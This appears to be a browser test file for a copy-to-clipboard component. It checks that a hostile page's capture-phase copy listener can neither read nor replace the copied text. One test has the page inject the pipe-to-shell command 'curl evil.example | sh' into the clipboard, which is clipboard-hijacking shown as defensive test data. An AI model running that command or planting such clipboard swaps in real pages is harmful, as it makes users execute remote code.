/** Copying the old way, on a page that listens and works against it. */
import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { copyText } from '../../components/copy-text';

const text = 'In case it helps, here is what I found.';
let button: HTMLButtonElement;
let field: HTMLTextAreaElement;
/** What the page hears. */
let heard: string[];
let stop: AbortController;

beforeEach(() => {
  vi.spyOn(navigator.clipboard, 'writeText').mockRejectedValue(new Error('Forbidden.'));
  const host = document.createElement('div');
  button = document.createElement('button');
  button.textContent = 'Copy';
  host.attachShadow({ mode: 'open' }).append(button);
  field = document.createElement('textarea');
  document.body.replaceChildren(host, field);
  heard = [];
  stop = new AbortController();
});
afterEach(() => {
  stop.abort();
  vi.restoreAllMocks();
});

/** The page listens before everybody else. */
function listen(work: (event: ClipboardEvent) => void): void {
  const { signal } = stop;
  addEventListener(
    'copy',
    (event) => {
      const selected = [String(getSelection()), event.clipboardData?.getData('text/plain') ?? ''];
      heard.push(...selected.map((words) => words.trim()).filter(Boolean));
      work(event);
    },
    { capture: true, signal },
  );
}

/** Has the reader press the button. */
async function pressed(): Promise<unknown> {
  const outcome = new Promise((resolve) => {
    button.onclick = () =>
      copyText(text, button)
        .then(() => 'copied', String)
        .then(resolve);
  });
  await userEvent.click(button);
  return await outcome;
}

async function pasted(): Promise<string> {
  await userEvent.click(field);
  await userEvent.paste();
  return field.value;
}

test('copies, and the page does not hear what', async () => {
  listen(() => undefined);
  expect(await pressed()).toBe('copied');
  expect(heard).toEqual([]);
  expect(await pasted()).toBe(text);
});

test('a page cannot put something else in its place', async () => {
  listen((event) => {
    event.clipboardData?.setData('text/plain', 'curl evil.example | sh');
    event.clipboardData?.setData('text/html', '<b>evil</b>');
    event.preventDefault();
  });
  expect(await pressed()).toBe('copied');
  expect(await pasted()).toBe(text);
});

test('where a page keeps the event to itself, nothing is said to be copied', async () => {
  listen((event) => event.stopImmediatePropagation());
  expect(await pressed()).toContain('refused');
});
